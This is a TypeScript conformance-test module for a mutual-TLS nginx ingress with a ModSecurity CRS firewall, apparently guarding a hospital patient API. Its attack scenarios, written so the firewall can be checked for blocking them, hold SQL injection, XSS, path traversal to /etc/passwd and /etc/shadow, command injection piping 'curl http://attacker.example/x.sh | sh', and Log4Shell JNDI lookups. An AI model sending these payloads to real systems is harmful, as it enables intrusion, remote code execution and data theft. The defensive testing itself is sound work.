import type { EdgeModel, ServerAuthModel, ServerModel } from './edge-model';
import { mtlsServer } from './edge-model';
import type { AuditRecord, EdgeEngine, EngineRequest } from './engine';
import type { EdgeResponse } from './http-client';

/**
 * The conformance scenarios: the table a security reviewer reads. Shared by the jest suites (test/engine/*.test.ts)
 * and `npm run verify` (scripts/verify.ts). Expectations come from the scenario of the original write-up (issues 4
 * and 5), not from dist: dist is what is being checked.
 */
export type ScenarioGroup = 'mtls' | 'waf-rules' | 'attack' | 'benign' | 'headers';

/** What a scenario expects. */
export interface Expectation {
  readonly status: number;
  /** Who must block: a custom rule of the modsecurity-snippet or the WAF policy file it includes, or CRS anomaly scoring with a rule of `family`. */
  readonly blockedBy?: 'custom-rule' | 'crs';
  /** CRS rule-id prefix of the attack class, e.g. `942` for SQL injection. */
  readonly family?: string;
  /** Why the expectation is what it is, when not obvious. */
  readonly note?: string;
  /** The scenario cannot be checked with this engine (e.g. the Debian CRS 3 fallback lacks the rule); says why. */
  readonly notApplicable?: string;
}

/** Everything a scenario may read. */
export interface ScenarioContext {
  readonly model: EdgeModel;
  readonly server: ServerModel & { auth: ServerAuthModel };
  readonly engine: EdgeEngine;
  /** Common names of the clients declared in dist, first one is the default identity. */
  readonly clients: readonly string[];
  /** Rule ids defined in the controller's modsecurity-snippet and the files mounted into the controller (the WAF policy). */
  readonly snippetRuleIds: ReadonlySet<string>;
}

export interface Scenario {
  readonly id: string;
  readonly group: ScenarioGroup;
  readonly title: string;
  readonly request: (ctx: ScenarioContext) => Omit<EngineRequest, 'marker'>;
  readonly expect: (ctx: ScenarioContext) => Expectation;
  /** Extra checks on a passing status; returns problems (empty = fine). */
  readonly check?: (res: EdgeResponse, ctx: ScenarioContext, audit?: AuditRecord) => string[];
}

/** The outcome of one scenario. */
export interface ScenarioResult {
  readonly id: string;
  readonly group: ScenarioGroup;
  readonly title: string;
  readonly expected: Expectation;
  readonly status: number;
  readonly ruleIds: readonly string[];
  readonly problems: readonly string[];
  readonly passed: boolean;
}

/** The source address the scenario denies (original write-up). */
export const DENIED_SOURCE_IP = '34.242.209.15';
/** An address no rule denies (TEST-NET-3). */
export const ALLOWED_SOURCE_IP = '203.0.113.10';

const JSON_HEADERS = { 'content-type': 'application/json' };
const FORM_HEADERS = { 'content-type': 'application/x-www-form-urlencoded' };
const BROWSER_HEADERS = {
  'user-agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'accept-language': 'en-IE,en;q=0.9,ga;q=0.8',
  'accept-encoding': 'gzip, deflate, br',
};
const API_HEADERS = {
  'user-agent': 'hospital-a-integration/2.3 (+https://hospital-a.example)',
  accept: 'application/json',
};

const crs = (family: string, note?: string) => (): Expectation => ({ status: 403, blockedBy: 'crs', family, note });
const ok = (): Expectation => ({ status: 200 });

function json(value: unknown): { body: string; headers: Record<string, string> } {
  return { body: JSON.stringify(value), headers: { ...API_HEADERS, ...JSON_HEADERS } };
}

function form(fields: Record<string, string>): { body: string; headers: Record<string, string> } {
  return { body: new URLSearchParams(fields).toString(), headers: { ...API_HEADERS, ...FORM_HEADERS } };
}

function multipart(
  files: { name: string; filename: string; type: string; content: Buffer }[],
  fields: Record<string, string>,
): { body: Buffer; headers: Record<string, string> } {
  const boundary = '----harnessBoundary7MA4YWxkTrZu0gW';
  const parts: Buffer[] = [];
  for (const [k, v] of Object.entries(fields))
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  for (const f of files) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${f.name}"; filename="${f.filename}"\r\nContent-Type: ${f.type}\r\n\r\n`,
      ),
    );
    parts.push(f.content, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    body: Buffer.concat(parts),
    headers: { ...BROWSER_HEADERS, 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

/** A 1x1 PNG. */
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d8d84f0000000049454e44ae426082',
  'hex',
);

/** Upstream checks for requests that must reach the backend unchanged. */
function reached(method: string, path: string, body?: string | Buffer) {
  return (res: EdgeResponse): string[] => {
    const up = res.upstream;
    if (!up) return ['the echo upstream did not answer (request did not reach the backend)'];
    const problems: string[] = [];
    if (up.method !== method) problems.push(`backend saw method ${up.method}, sent ${method}`);
    if (up.path !== path) problems.push(`backend saw path ${up.path}, sent ${path}`);
    if (body !== undefined && up.bodyLength !== Buffer.byteLength(body))
      problems.push(`backend got ${up.bodyLength} body bytes, sent ${Buffer.byteLength(body)}`);
    return problems;
  };
}

/** openssl's `SHA1 Fingerprint=AB:CD:…` → nginx's `$ssl_client_fingerprint` form (lower-case hex, no colons). */
export function nginxFingerprint(opensslFingerprint: string): string {
  return opensslFingerprint.replace(/:/g, '').toLowerCase();
}

function fingerprintHeaderName(ctx: ScenarioContext): string | undefined {
  return Object.entries(ctx.model.controller.proxySetHeaders).find(([, v]) => v === '$ssl_client_fingerprint')?.[0];
}

function validClientChecks(commonName: string) {
  return (res: EdgeResponse, ctx: ScenarioContext): string[] => {
    const up = res.upstream;
    if (!up) return ['the echo upstream did not answer'];
    const problems: string[] = [];
    const files = ctx.engine.pki.clients.get(commonName)!;
    const header = fingerprintHeaderName(ctx);
    const expected = nginxFingerprint(files.sha1Fingerprint);
    if (!header)
      problems.push(
        'no proxy-set-headers entry carries $ssl_client_fingerprint: the backend cannot check the client certificate fingerprint',
      );
    else if (up.headers[header] !== expected)
      problems.push(
        `backend header ${header} = ${JSON.stringify(up.headers[header])}, openssl -fingerprint -sha1 gives ${files.sha1Fingerprint} (= ${expected})`,
      );
    if (up.headers['ssl-client-verify'] !== 'SUCCESS')
      problems.push(
        `backend header ssl-client-verify = ${JSON.stringify(up.headers['ssl-client-verify'])}, expected SUCCESS`,
      );
    const dn = String(up.headers['ssl-client-subject-dn'] ?? '');
    if (!dn.split(',').includes(`CN=${commonName}`))
      problems.push(`backend header ssl-client-subject-dn = ${JSON.stringify(dn)} does not name CN=${commonName}`);
    if (ctx.server.auth.passCertificateToUpstream) {
      const pemText = decodeURIComponent(String(up.headers['ssl-client-cert'] ?? ''));
      if (!pemText.includes('BEGIN CERTIFICATE'))
        problems.push('auth-tls-pass-certificate-to-upstream is true but the backend got no ssl-client-cert PEM');
    }
    return problems;
  };
}

/** The answer came from the expected nginx stage (TLS verification, match-cn), not from elsewhere. */
function bodySays(text: string) {
  return (res: EdgeResponse): string[] =>
    res.body.includes(text) ? [] : [`answer body does not say "${text}": ${res.body.trim().slice(0, 160)}`];
}

const attack = (
  id: string,
  title: string,
  family: string,
  request: (ctx: ScenarioContext) => Omit<EngineRequest, 'marker'>,
  note?: string,
): Scenario => ({ id, group: 'attack', title, request, expect: crs(family, note) });

/**
 * Log4Shell: CRS 4 (what the image ships) detects it with 944150 wherever it appears. The Debian CRS 3.3.4 fallback
 * catches `${jndi:` in arguments only through 932130 (Unix shell expressions) and not at all in request headers.
 */
const log4shell = (
  id: string,
  title: string,
  where: 'args' | 'headers',
  request: (ctx: ScenarioContext) => Omit<EngineRequest, 'marker'>,
): Scenario => ({
  id,
  group: 'attack',
  title,
  request,
  expect: (ctx) => {
    if (ctx.engine.crs.major === 4) return crs('944')();
    if (where === 'args') return crs('932', `CRS ${ctx.engine.crs.version} fallback: caught by 932130, not 944150`)();
    return {
      status: 403,
      blockedBy: 'crs',
      family: '944',
      notApplicable: `CRS ${ctx.engine.crs.version} (Debian fallback) has no Log4Shell rule for request headers; the v1.15.1 image ships CRS 4.22.0, which has`,
    };
  },
});

/** The scenario table. */
export const SCENARIOS: readonly Scenario[] = [
  // ---- mutual TLS (issue 4 "Done when") ----
  {
    id: 'mtls-valid-client',
    group: 'mtls',
    title: 'valid client certificate (first allow-listed client)',
    request: () => ({ path: '/', headers: API_HEADERS }),
    expect: ok,
    check: (res, ctx) => validClientChecks(ctx.clients[0])(res, ctx),
  },
  {
    id: 'mtls-second-client',
    group: 'mtls',
    title: 'valid client certificate (every other client declared in dist)',
    request: (ctx) => ({
      path: '/',
      headers: API_HEADERS,
      identity: { kind: 'client', commonName: ctx.clients[ctx.clients.length - 1] },
    }),
    expect: ok,
    check: (res, ctx) => validClientChecks(ctx.clients[ctx.clients.length - 1])(res, ctx),
  },
  {
    id: 'mtls-no-certificate',
    group: 'mtls',
    title: 'no client certificate',
    request: () => ({ path: '/', identity: { kind: 'none' } }),
    expect: () => ({ status: 400 }),
    check: bodySays('No required SSL certificate was sent'),
  },
  {
    id: 'mtls-other-ca',
    group: 'mtls',
    title: 'certificate from another CA (allow-listed CN)',
    request: () => ({ path: '/', identity: { kind: 'other-ca' } }),
    expect: () => ({ status: 400 }),
    check: bodySays('The SSL certificate error'),
  },
  {
    id: 'mtls-expired',
    group: 'mtls',
    title: 'expired certificate from the client CA',
    request: () => ({ path: '/', identity: { kind: 'expired' } }),
    expect: () => ({ status: 400 }),
    check: bodySays('The SSL certificate error'),
  },
  {
    id: 'mtls-wrong-subject',
    group: 'mtls',
    title: 'client CA certificate, CN outside the allow-list (CN=mallory)',
    request: () => ({ path: '/', identity: { kind: 'wrong-subject', commonName: 'mallory' } }),
    expect: () => ({ status: 403 }),
    check: bodySays('client certificate unauthorized'),
  },
  {
    id: 'mtls-lookalike-suffix',
    group: 'mtls',
    title: 'client CA certificate, CN = allowed name + "-evil"',
    request: (ctx) => ({ path: '/', identity: { kind: 'wrong-subject', commonName: `${ctx.clients[0]}-evil` } }),
    expect: () => ({ status: 403 }),
    check: bodySays('client certificate unauthorized'),
  },
  {
    id: 'mtls-lookalike-prefix',
    group: 'mtls',
    title: 'client CA certificate, CN = "evil-" + allowed name',
    request: (ctx) => ({ path: '/', identity: { kind: 'wrong-subject', commonName: `evil-${ctx.clients[0]}` } }),
    expect: () => ({ status: 403 }),
    check: bodySays('client certificate unauthorized'),
  },
  // ---- headers the backend can trust ----
  {
    id: 'headers-fingerprint-spoof',
    group: 'headers',
    title: 'client sends its own ssl-client-fingerprint / ssl-client-verify / subject headers',
    request: () => ({
      path: '/',
      headers: {
        ...API_HEADERS,
        'ssl-client-fingerprint': '0000000000000000000000000000000000000000',
        'ssl-client-verify': 'SUCCESS',
        'ssl-client-subject-dn': 'CN=hospital-z',
      },
    }),
    expect: ok,
    check: (res, ctx) => validClientChecks(ctx.clients[0])(res, ctx),
  },
  {
    id: 'headers-underscore-spoof',
    group: 'headers',
    title: 'client sends ssl_client_fingerprint (underscore variant)',
    request: () => ({ path: '/', headers: { ...API_HEADERS, ssl_client_fingerprint: 'deadbeef' } }),
    expect: ok,
    check: (res) =>
      res.upstream && 'ssl_client_fingerprint' in res.upstream.headers
        ? ['the underscore header reached the backend']
        : [],
  },
  {
    id: 'headers-source-spoof',
    group: 'headers',
    title: `allowed source, X-Forwarded-For: ${DENIED_SOURCE_IP} (cannot choose its address)`,
    request: () => ({
      path: '/',
      clientIp: ALLOWED_SOURCE_IP,
      headers: { ...API_HEADERS, 'x-forwarded-for': DENIED_SOURCE_IP, 'x-real-ip': DENIED_SOURCE_IP },
    }),
    expect: ok,
    check: (res) =>
      res.upstream?.headers['x-real-ip'] === ALLOWED_SOURCE_IP
        ? []
        : [`backend X-Real-IP = ${JSON.stringify(res.upstream?.headers['x-real-ip'])}, expected ${ALLOWED_SOURCE_IP}`],
  },
  {
    id: 'headers-https-redirect',
    group: 'headers',
    title: 'plain HTTP request',
    request: () => ({ scheme: 'http', path: '/api/patients/', identity: { kind: 'none' } }),
    expect: (ctx) =>
      ctx.server.auth.matchCn !== undefined && !new RegExp(ctx.server.auth.matchCn).test('')
        ? {
            status: 403,
            note:
              'the server-level auth-tls-match-cn check (nginx.tmpl 916-921) runs before the Lua HTTPS redirect and plain HTTP has an empty ' +
              '$ssl_client_s_dn: an allow-list that does not accept the empty DN answers plain HTTP with 403 instead of redirecting',
          }
        : ctx.server.locations.every((l) => l.modsecurity.transactionId.startsWith('edge_mr_'))
          ? {
              status: 307,
              note:
                "the WAF policy redirects plain HTTP to an mTLS location (lib/waf/transaction-facts.ts) in ModSecurity's rewrite-phase handler, " +
                "before the controller's Lua redirect (308) and whether or not that one would run; see test/engine/adversarial.test.ts for every state",
            }
          : { status: ctx.model.controller.httpRedirectCode },
    check: (res, ctx) => {
      if (res.status === 403) return [];
      const loc = String(res.headers.location ?? '');
      // The controller's Lua redirect drops the trailing slash (lua_ingress.lua 158-163); the WAF's 307 keeps the URI.
      const expected =
        res.status === 307 ? `https://${ctx.engine.host}/api/patients/` : `https://${ctx.engine.host}/api/patients`;
      return loc === expected ? [] : [`Location ${JSON.stringify(loc)}, expected ${expected}`];
    },
  },
  {
    id: 'headers-hsts',
    group: 'headers',
    title: 'HTTPS response carries HSTS',
    request: () => ({ path: '/', headers: BROWSER_HEADERS }),
    expect: ok,
    check: (res) =>
      /max-age=\d+/.test(String(res.headers['strict-transport-security'] ?? ''))
        ? []
        : [`Strict-Transport-Security = ${JSON.stringify(res.headers['strict-transport-security'])}`],
  },
  // ---- the scenario's custom WAF rules ----
  {
    id: 'waf-denied-source-ip',
    group: 'waf-rules',
    title: `source address ${DENIED_SOURCE_IP}`,
    request: () => ({ path: '/', clientIp: DENIED_SOURCE_IP, headers: API_HEADERS }),
    expect: () => ({ status: 403, blockedBy: 'custom-rule' }),
    check: (_res, _ctx, audit) =>
      audit && audit.clientIp !== DENIED_SOURCE_IP
        ? [`audit client_ip = ${audit.clientIp}: ModSecurity did not see the emulated source address`]
        : [],
  },
  {
    id: 'waf-allowed-source-ip',
    group: 'waf-rules',
    title: `source address ${ALLOWED_SOURCE_IP}`,
    request: () => ({ path: '/', clientIp: ALLOWED_SOURCE_IP, headers: API_HEADERS }),
    expect: ok,
    check: (res) =>
      res.upstream?.headers['x-real-ip'] === ALLOWED_SOURCE_IP
        ? []
        : [
            `backend X-Real-IP = ${JSON.stringify(res.upstream?.headers['x-real-ip'])}: the realip emulation did not apply`,
          ],
  },
  {
    id: 'waf-user-admin',
    group: 'waf-rules',
    title: 'header user: admin',
    request: () => ({ path: '/', headers: { ...API_HEADERS, user: 'admin' } }),
    expect: () => ({ status: 403, blockedBy: 'custom-rule' }),
  },
  {
    id: 'waf-user-user',
    group: 'waf-rules',
    title: 'header user: user',
    request: () => ({ path: '/', headers: { ...API_HEADERS, user: 'user' } }),
    expect: ok,
    check: reached('GET', '/'),
  },
  // ---- attacks: CRS must block (anomaly score → 949110) ----
  attack('sqli-query', 'SQL injection in the query', '942', () => ({
    path: "/api/patients?id=1'%20OR%20'1'='1",
    headers: API_HEADERS,
  })),
  attack('sqli-json', 'SQL injection in a JSON body', '942', () => ({
    method: 'POST',
    path: '/api/patients/search',
    ...json({ name: "x' UNION SELECT username, password FROM users--" }),
  })),
  attack('sqli-form', 'SQL injection in a form body', '942', () => ({
    method: 'POST',
    path: '/login',
    ...form({ username: "admin' OR 1=1--", password: 'x' }),
  })),
  attack('sqli-cookie', 'SQL injection in a cookie', '942', () => ({
    path: '/',
    headers: { ...BROWSER_HEADERS, cookie: "session=1' UNION SELECT password FROM users--" },
  })),
  attack('xss-query', 'XSS in the query', '941', () => ({
    path: '/search?q=<script>alert(document.cookie)</script>',
    headers: BROWSER_HEADERS,
  })),
  attack('xss-json', 'XSS in a JSON body', '941', () => ({
    method: 'POST',
    path: '/api/comments',
    ...json({ comment: '<img src=x onerror=alert(1)>' }),
  })),
  attack('xss-form', 'XSS in a form body', '941', () => ({
    method: 'POST',
    path: '/comments',
    ...form({ comment: '<script>alert(1)</script>' }),
  })),
  attack('xss-cookie', 'XSS in a cookie', '941', () => ({
    path: '/',
    headers: { ...BROWSER_HEADERS, cookie: 'pref=<script>alert(1)</script>' },
  })),
  attack('traversal-query', 'path traversal in the query', '930', () => ({
    path: '/download?file=../../../../etc/passwd',
    headers: API_HEADERS,
  })),
  attack('traversal-json', 'path traversal in a JSON body', '930', () => ({
    method: 'POST',
    path: '/api/reports',
    ...json({ template: '../../../../etc/shadow' }),
  })),
  attack('traversal-form', 'path traversal in a form body', '930', () => ({
    method: 'POST',
    path: '/reports',
    ...form({ template: '../../../../etc/passwd' }),
  })),
  attack('cmdi-query', 'command injection in the query', '932', () => ({
    path: '/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd',
    headers: API_HEADERS,
  })),
  attack('cmdi-json', 'command injection in a JSON body', '932', () => ({
    method: 'POST',
    path: '/api/ping',
    ...json({ host: '8.8.8.8; curl http://attacker.example/x.sh | sh' }),
  })),
  attack('cmdi-form', 'command injection in a form body', '932', () => ({
    method: 'POST',
    path: '/ping',
    ...form({ host: '127.0.0.1; wget http://attacker.example/x -O /tmp/x' }),
  })),
  attack('cmdi-cookie', 'command injection in a cookie', '932', () => ({
    path: '/',
    headers: { ...BROWSER_HEADERS, cookie: 'lang=en;$(cat /etc/passwd)' },
  })),
  log4shell('log4shell-header', 'Log4Shell lookup in a request header', 'headers', () => ({
    path: '/',
    headers: { ...API_HEADERS, 'x-api-version': '${jndi:ldap://attacker.example/a}' },
  })),
  log4shell('log4shell-query', 'Log4Shell lookup in the query', 'args', () => ({
    path: '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D',
    headers: API_HEADERS,
  })),
  log4shell('log4shell-json', 'Log4Shell lookup in a JSON body', 'args', () => ({
    method: 'POST',
    path: '/api/login',
    ...json({ user: '${jndi:ldap://attacker.example/a}' }),
  })),
  log4shell('log4shell-user-agent', 'Log4Shell lookup in the User-Agent', 'headers', () => ({
    path: '/',
    headers: { 'user-agent': '${jndi:ldap://attacker.example/a}' },
  })),
  attack('scanner-sqlmap', 'scanner user agent: sqlmap', '913', () => ({
    path: '/',
    headers: { 'user-agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' },
  })),
  attack('scanner-nikto', 'scanner user agent: Nikto', '913', () => ({
    path: '/',
    headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' },
  })),
  attack('scanner-nuclei', 'scanner user agent: Nuclei', '913', () => ({
    path: '/',
    headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
  })),
  // ---- benign API and browser traffic: must pass untouched ----
  {
    id: 'benign-json-apostrophes',
    group: 'benign',
    title: "JSON with apostrophes (O'Brien)",
    request: () => ({
      method: 'POST',
      path: '/api/patients',
      ...json({
        name: "Siobhán O'Brien",
        note: "Patient's follow-up isn't needed, she's doing well.",
        ward: "St. Mary's",
      }),
    }),
    expect: ok,
    check: (res) =>
      reached(
        'POST',
        '/api/patients',
        JSON.stringify({
          name: "Siobhán O'Brien",
          note: "Patient's follow-up isn't needed, she's doing well.",
          ward: "St. Mary's",
        }),
      )(res),
  },
  {
    id: 'benign-search',
    group: 'benign',
    title: 'search query',
    request: () => ({
      path: '/api/patients?search=heart%20surgery%20recovery&page=2&sort=-admitted',
      headers: API_HEADERS,
    }),
    expect: ok,
    check: reached('GET', '/api/patients?search=heart%20surgery%20recovery&page=2&sort=-admitted'),
  },
  {
    id: 'benign-search-apostrophe',
    group: 'benign',
    title: 'search for a name with an apostrophe',
    request: () => ({ path: "/api/patients?name=O'Brien", headers: API_HEADERS }),
    expect: ok,
    check: reached('GET', "/api/patients?name=O'Brien"),
  },
  {
    id: 'benign-browser-page',
    group: 'benign',
    title: 'browser page load with cookies',
    request: () => ({
      path: '/portal/appointments',
      headers: { ...BROWSER_HEADERS, cookie: 'session=3f2a9c1e7b; theme=dark; lang=en-IE' },
    }),
    expect: ok,
    check: reached('GET', '/portal/appointments'),
  },
  {
    id: 'benign-form',
    group: 'benign',
    title: 'form post with an apostrophe and accents',
    request: () => ({
      method: 'POST',
      path: '/portal/profile',
      ...form({ name: "Seán O'Neill", city: 'Dún Laoghaire', phone: '+353 1 234 5678' }),
    }),
    expect: ok,
    check: reached('POST', '/portal/profile'),
  },
  {
    id: 'benign-upload-text',
    group: 'benign',
    title: 'multipart upload of a small text file',
    request: () => ({
      method: 'POST',
      path: '/api/documents',
      ...multipart(
        [
          {
            name: 'file',
            filename: 'discharge-notes.txt',
            type: 'text/plain',
            content: Buffer.from('Discharge notes\nPatient is recovering well.\n'),
          },
        ],
        { patient: '42' },
      ),
    }),
    expect: ok,
    check: reached('POST', '/api/documents'),
  },
  {
    id: 'benign-upload-png',
    group: 'benign',
    title: 'multipart upload of a small PNG',
    request: () => ({
      method: 'POST',
      path: '/api/documents',
      ...multipart([{ name: 'file', filename: 'scan.png', type: 'image/png', content: PNG }], { patient: '42' }),
    }),
    expect: ok,
    check: reached('POST', '/api/documents'),
  },
  ...(['GET', 'POST', 'PUT', 'PATCH', 'DELETE'] as const).map((method): Scenario => {
    const body =
      method === 'GET' || method === 'DELETE' ? undefined : JSON.stringify({ status: 'discharged', ward: '3B' });
    return {
      id: `benign-rest-${method.toLowerCase()}`,
      group: 'benign',
      title: `REST verb ${method}`,
      request: () => ({
        method,
        path: '/api/patients/42',
        headers: body ? { ...API_HEADERS, ...JSON_HEADERS } : API_HEADERS,
        body,
      }),
      expect: ok,
      check: reached(method, '/api/patients/42', body),
    };
  }),
];

/** Rule ids defined in a ModSecurity snippet (`id:123`, `id:'123'`, `id:\'123\'`). */
export function ruleIdsIn(snippet: string): Set<string> {
  return new Set([...snippet.matchAll(/(?:^|["',\s])id:\\?'?(\d+)/g)].map((m) => m[1]));
}

/** Builds the context the scenarios read. */
export function scenarioContext(engine: EdgeEngine): ScenarioContext {
  return {
    model: engine.model,
    server: mtlsServer(engine.model),
    engine,
    clients: engine.model.clients.map((c) => c.commonName),
    snippetRuleIds: ruleIdsIn(
      [
        engine.model.controller.modsecuritySnippet,
        ...engine.model.controller.mounts.flatMap((m) => Object.values(m.files)),
      ].join('\n'),
    ),
  };
}

/** Runs one scenario against the engine. */
export async function runScenario(scenario: Scenario, ctx: ScenarioContext): Promise<ScenarioResult> {
  const expected = scenario.expect(ctx);
  if (expected.notApplicable) {
    return {
      id: scenario.id,
      group: scenario.group,
      title: scenario.title,
      expected,
      status: 0,
      ruleIds: [],
      problems: [],
      passed: true,
    };
  }
  const problems: string[] = [];
  let status = 0;
  let ruleIds: string[] = [];
  try {
    // Wait for an audit record when a WAF block is expected, or when the status is an unexpected error (to show why).
    const awaitAudit = (got: number): boolean =>
      got >= 400 && (expected.blockedBy !== undefined || got !== expected.status);
    const { response, audit } = await ctx.engine.request({ ...scenario.request(ctx), marker: scenario.id }, awaitAudit);
    status = response.status;
    ruleIds = [...(audit?.ruleIds ?? [])];
    if (status !== expected.status) {
      const why = response.upstream
        ? 'answered by the backend'
        : `"${response.body
            .replace(/<[^>]*>/g, ' ')
            .replace(/\s+/g, ' ')
            .trim()
            .slice(0, 120)}"`;
      problems.push(
        `status ${status}, expected ${expected.status} (${why}${ruleIds.length ? `; rule ids ${ruleIds.join(', ')}` : ''})`,
      );
    }
    if (expected.blockedBy) problems.push(...blockProblems(expected, ctx, audit));
    if (status === expected.status && scenario.check) problems.push(...scenario.check(response, ctx, audit));
  } catch (err) {
    problems.push(`request failed: ${(err as Error).message}`);
  }
  return {
    id: scenario.id,
    group: scenario.group,
    title: scenario.title,
    expected,
    status,
    ruleIds,
    problems,
    passed: problems.length === 0,
  };
}

function blockProblems(expected: Expectation, ctx: ScenarioContext, audit?: AuditRecord): string[] {
  if (!audit)
    return [
      'no JSON audit record on the controller stdout (SecAuditLog /dev/stdout, SecAuditLogFormat JSON) for this block',
    ];
  if (audit.ruleIds.length === 0) return ['the audit record names no rule id'];
  const transactionId = ctx.server.locations[0]?.modsecurity.transactionId;
  const expectedId = transactionId ? transactionIdPattern(transactionId, ctx.server.host) : undefined;
  if (expectedId && !expectedId.test(audit.uniqueId)) {
    return [
      `modsecurity-transaction-id is ${transactionId} but the audit unique_id is ${JSON.stringify(audit.uniqueId)}`,
    ];
  }
  if (expected.blockedBy === 'custom-rule') {
    const custom = audit.ruleIds.filter((id) => ctx.snippetRuleIds.has(id) && !isCrsId(id));
    return custom.length > 0
      ? []
      : [
          `no custom rule of the modsecurity-snippet or the mounted WAF policy in the audit record (rule ids: ${audit.ruleIds.join(', ')})`,
        ];
  }
  const problems: string[] = [];
  if (!audit.ruleIds.includes('949110'))
    problems.push(
      `CRS inbound anomaly blocking rule 949110 not in the audit record (rule ids: ${audit.ruleIds.join(', ')})`,
    );
  if (expected.family && !audit.ruleIds.some((id) => id.startsWith(expected.family!)))
    problems.push(`no CRS ${expected.family}xxx rule matched (rule ids: ${audit.ruleIds.join(', ')})`);
  return problems;
}

/** What nginx makes of the variables a transaction id uses on an HTTPS request to `host`. */
const TRANSACTION_ID_VARIABLES: Readonly<Record<string, (host: string) => string>> = {
  request_id: () => '[0-9a-f]{32}',
  scheme: () => 'https',
  ssl_client_verify: () => '(?:SUCCESS|NONE|FAILED:[^_]*)',
  host: (host) => host.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'),
};

/**
 * The audit `unique_id` a `modsecurity-transaction-id` value produces for an HTTPS request to `host` (nginx
 * substitutes `$name` / `${name}`), e.g. `$request_id` → 32 hex digits; undefined when it uses another variable.
 */
export function transactionIdPattern(template: string, host: string): RegExp | undefined {
  let unknown = false;
  const source = template
    .split(/(\$\{[a-z_]+\}|\$[a-z_]+)/)
    .map((part) => {
      const name = /^\$\{?([a-z_]+)\}?$/.exec(part)?.[1];
      if (name === undefined) return part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      const variable = TRANSACTION_ID_VARIABLES[name];
      if (!variable) unknown = true;
      return variable ? variable(host) : '';
    })
    .join('');
  return unknown ? undefined : new RegExp(`^${source}$`);
}

/** CRS reserves 900000–999999. */
export function isCrsId(id: string): boolean {
  const n = Number(id);
  return n >= 900000 && n <= 999999;
}

/** Runs every scenario, one after the other, on one engine. */
export async function runScenarios(
  engine: EdgeEngine,
  scenarios: readonly Scenario[] = SCENARIOS,
): Promise<ScenarioResult[]> {
  const ctx = scenarioContext(engine);
  const results: ScenarioResult[] = [];
  for (const s of scenarios) results.push(await runScenario(s, ctx));
  return results;
}

/** "403 (custom rule)", "403 (CRS 942xxx → 949110)", "200". */
export function describeExpectation(e: Expectation): string {
  if (e.blockedBy === 'custom-rule') return `${e.status} custom rule`;
  if (e.blockedBy === 'crs') return `${e.status} CRS ${e.family}xxx`;
  return String(e.status);
}

/** The table a reviewer reads: scenario, expected, got, rule ids, verdict. */
export function formatTable(results: readonly ScenarioResult[]): string {
  const verdict = (r: ScenarioResult): string => (r.expected.notApplicable ? 'n/a' : r.passed ? 'ok' : 'FAIL');
  const rows = results.map((r) => [
    r.group,
    r.id,
    describeExpectation(r.expected),
    r.expected.notApplicable ? '-' : String(r.status || 'error'),
    r.ruleIds.join(' ') || '-',
    verdict(r),
  ]);
  const head = ['group', 'scenario', 'expected', 'got', 'rule ids', 'result'];
  const widths = head.map((h, i) => Math.max(h.length, ...rows.map((row) => row[i].length)));
  const fmt = (row: string[]): string =>
    row
      .map((c, i) => c.padEnd(widths[i]))
      .join('  ')
      .trimEnd();
  const lines = [fmt(head), widths.map((w) => '-'.repeat(w)).join('  '), ...rows.map(fmt)];
  const failed = results.filter((r) => !r.passed);
  for (const r of failed) lines.push('', `FAIL ${r.id} — ${r.title}:`, ...r.problems.map((p) => `  - ${p}`));
  const notes = results.filter((r) => r.expected.note || r.expected.notApplicable);
  if (notes.length > 0)
    lines.push(
      '',
      'Notes:',
      ...notes.map(
        (r) => `  ${r.id}: ${r.expected.notApplicable ? `NOT CHECKED: ${r.expected.notApplicable}` : r.expected.note}`,
      ),
    );
  const na = results.filter((r) => r.expected.notApplicable).length;
  lines.push(
    '',
    `${results.length - failed.length - na}/${results.length - na} scenarios as expected${na ? `, ${na} NOT CHECKED with this engine` : ''}`,
  );
  return lines.join('\n');
}
